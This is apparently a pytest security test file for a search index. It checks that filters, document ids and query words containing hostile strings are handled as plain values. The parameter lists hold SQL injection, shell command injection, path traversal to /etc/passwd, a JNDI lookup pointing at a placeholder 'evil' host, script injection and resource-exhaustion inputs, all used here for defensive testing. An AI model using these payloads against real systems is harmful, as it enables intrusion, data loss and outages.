"""Filters, ids and words of strangers: they are values, and never part of what an index is asked in."""

import json
from collections.abc import Iterator, Mapping
from typing import Any

import numpy as np
import pytest
from _pytest.mark.structures import ParameterSet

from demo import links, posted
from demo.form import Asked
from search.errors import InvalidInput, InvalidQuery
from search.indexes import Index, create_index
from search.indexes.opensearch.filters import clauses
from search.nouns import Document, Leg, Query
from search.terminal import parsed_where
from search.where import Where
from search.words import words

SQL = "reads or deletes what the database holds"
DSL = "asks the search server for other documents, or for work without end"
SHELL = "runs a program on the server"
ENDS = "ends the search with an error that says nothing"
LOCKS = "has the server take its own index for damaged"

attack = pytest.mark.attack


def case(*values: object, name: str, gain: str) -> ParameterSet:
    return pytest.param(*values, id=name, marks=attack(gain))


HOSTILE = [
    case("' OR '1'='1", name="or-always", gain=SQL),
    case("'); DROP TABLE document; --", name="drop-table", gain=SQL),
    case('" OR 1=1 --', name="double-quote", gain=SQL),
    case("x' UNION SELECT sql FROM sqlite_master --", name="union", gain=SQL),
    case("?1", name="placeholder", gain=SQL),
    case(":name", name="named-placeholder", gain=SQL),
    case("%", name="like-all", gain=SQL),
    case("_", name="like-one", gain=SQL),
    case("*", name="star", gain=DSL),
    case("re?", name="wildcard", gain=DSL),
    case("/.*/", name="regular-expression", gain=DSL),
    case("(a+)+$" * 9, name="regular-expression-without-end", gain=DSL),
    case("red OR blue NOT (x AND y)", name="query-string", gain=DSL),
    case('red" dress* NEAR/2 ^caption', name="full-text-syntax", gain=DSL),
    case("_exists_:caption", name="query-string-field", gain=DSL),
    case('{"match_all": {}}', name="json", gain=DSL),
    case('"}}, {"match_all": {"x": "', name="json-that-closes", gain=DSL),
    case("$.colour", name="json-path", gain=DSL),
    case("__proto__", name="prototype", gain=DSL),
    case("constructor", name="constructor", gain=DSL),
    case("_source", name="server-s-own-field", gain=DSL),
    case("field_values", name="index-s-own-field", gain=DSL),
    case("a\x1fb", name="separator", gain=DSL),
    case("a=b", name="equals", gain=DSL),
    case("../../etc/passwd", name="path", gain=SHELL),
    case("$(touch owned)", name="command", gain=SHELL),
    case("`id`; ls | cat", name="backticks", gain=SHELL),
    case("{0.__class__}", name="format", gain=SHELL),
    case("${jndi:ldap://evil/a}", name="lookup", gain=SHELL),
    case("<script>alert(1)</script>", name="html", gain="runs a program in other visitors' browsers"),
    case("nul\0byte", name="nul", gain=ENDS),
    case("\u202eder", name="turned", gain=ENDS),
    case("a" * 10_000, name="long", gain=ENDS),
]


@pytest.fixture(scope="module")
def index(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Index]:
    """Three documents; what a test adds it takes out again, so that the next finds them as they were."""
    index = create_index(tmp_path_factory.mktemp("attacks") / "a.index", dimension=3, fingerprint="by-hand")
    vectors = np.eye(3, dtype=np.float32)
    documents = [
        Document("red", "a red dress", {"colour": "red", "price": "5"}),
        Document("blue", "a blue dress", {"colour": "blue", "price": "7"}),
        Document("plain", "nothing", {}),
    ]
    index.add(documents, image_vectors=vectors, caption_vectors=vectors)
    yield index
    index.close()


def found(index: Index, where: Mapping[str, Any]) -> list[str]:
    return [document.id for document in index.browse(where=Query(text="x", where=where).where)]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_value_or_a_field_s_name_matches_itself_and_nothing_else(index: Index, hostile: str) -> None:
    assert found(index, {"colour": hostile}) == []
    assert found(index, {"colour": [hostile, "blue"]}) == ["blue"]
    assert found(index, {hostile: "red"}) == []
    assert found(index, {hostile: (None, None)}) == []
    one = np.ones((1, 3), np.float32)
    index.add([Document("evil", "x", {hostile: "1", "colour": hostile})], image_vectors=one, caption_vectors=one)
    assert found(index, {"colour": hostile}) == ["evil"]
    assert found(index, {hostile: "1"}) == ["evil"]
    assert found(index, {hostile: (1, 1)}) == ["evil"]
    assert index.facets([hostile], where={"colour": hostile}) == {hostile: {"1": 1}}
    assert len(index.browse()) == 4
    assert index.remove(["evil"]) == 1


@pytest.mark.parametrize("hostile", HOSTILE)
def test_an_id_names_one_document_or_none(index: Index, hostile: str) -> None:
    assert index.get([hostile]) == {}
    assert index.thumbnails([hostile]) == {}
    assert index.remove([hostile]) == 0
    index.browse(after=hostile)
    one = np.ones((1, 3), np.float32)
    if "\0" in hostile:
        with pytest.raises(InvalidInput):
            index.add([Document(hostile, "x")], image_vectors=one, caption_vectors=one)
        return
    index.add([Document(hostile, "x")], image_vectors=one, caption_vectors=one)
    assert [document.id for document in index.get([hostile, "red"]).values()] == [hostile, "red"]
    assert index.remove([hostile]) == 1
    assert {document.id for document in index.browse()} == {"red", "blue", "plain"}


@pytest.mark.parametrize("hostile", HOSTILE)
def test_words_are_words(index: Index, hostile: str) -> None:
    asked = Query(text=hostile).text
    (ranking,) = index.retrieve([Leg("text-bm25", text=asked)], depth=10)
    captions = {"red": {"a", "red", "dress"}, "blue": {"a", "blue", "dress"}}
    assert set(ranking.ids) == {id_ for id_, caption in captions.items() if caption & set(words(asked))}
    index.terms(asked)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_for_a_server_they_are_terms_whose_names_the_program_chose(hostile: str) -> None:
    where: Where = {"colour": [hostile], hostile: (1, None), f"{hostile[:99]} ": hostile}
    asked = json.loads(json.dumps(clauses(Query(text="x", where=where).where)))
    assert len(asked) == 3
    names = {name for clause in asked for name in _names(clause)}
    assert names <= {"terms", "range", "bool", "should", "field_values", "field_numbers", "gte", "lte"}


def _names(clause: object) -> Iterator[str]:
    """All names of objects in a clause."""
    if isinstance(clause, dict):
        for name, inner in clause.items():
            yield name
            yield from _names(inner)
    if isinstance(clause, list):
        for inner in clause:
            yield from _names(inner)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_they_go_through_a_link_and_the_command_line_as_they_are(hostile: str) -> None:
    where = links.read(links.address(Asked(text="x", where={hostile: [hostile]}))).where
    assert where == {hostile: [hostile]}
    if "=" not in hostile and ".." not in hostile:
        assert parsed_where([f"{hostile}={hostile}"]) == {hostile: [hostile]}


@pytest.mark.parametrize(
    "where",
    [
        case({f"f{number}": "x" for number in range(5000)}, name="thousands-of-fields", gain=LOCKS),
        case({"price": ["x"] * 20_001}, name="thousands-of-values", gain=ENDS),
        case({"price": 10**400}, name="huge-number", gain=ENDS),
        case({"price": [10**5000]}, name="huge-number-in-a-list", gain=ENDS),
        case({"price": {"from": 10**400}}, name="huge-range", gain=ENDS),
        case({"price": {"from": None, "to": -(10**400)}}, name="huge-range-down", gain=ENDS),
        case({"price": {"from": "1 OR 1=1"}}, name="text-for-a-range", gain=SQL),
        case({"price": {"from": {"from": 1}}}, name="object-for-a-range", gain=DSL),
        case({"price": {"$gt": 1}}, name="operator", gain=DSL),
        case({"price": {"from": float("nan")}}, name="no-number", gain=ENDS),
        case({"price": [["x"]]}, name="list-in-a-list", gain=ENDS),
        case({"price": [{"match_all": {}}]}, name="object-in-a-list", gain=DSL),
        case({"price": None}, name="nothing", gain=ENDS),
        case({"price": b"bytes"}, name="bytes", gain=ENDS),
        case({"": "x"}, name="no-name", gain=ENDS),
        case({5: "x"}, name="number-for-a-name", gain=ENDS),
        case({"price": "\ud800"}, name="half-a-character", gain=ENDS),
        case({"\udfff": "x"}, name="half-a-character-in-a-name", gain=ENDS),
        case({"price": "x" * 10_001}, name="text-without-end", gain=ENDS),
        case({"x" * 10_001: "x"}, name="name-without-end", gain=ENDS),
    ],
)
def test_filters_that_no_index_can_be_asked_are_refused_in_a_sentence(index: Index, where: Any) -> None:
    with pytest.raises(InvalidQuery) as refused:
        found(index, posted.where(where))
    assert len(str(refused.value)) < 1000
    assert len(index.browse()) == 3  # and the index is as good as before
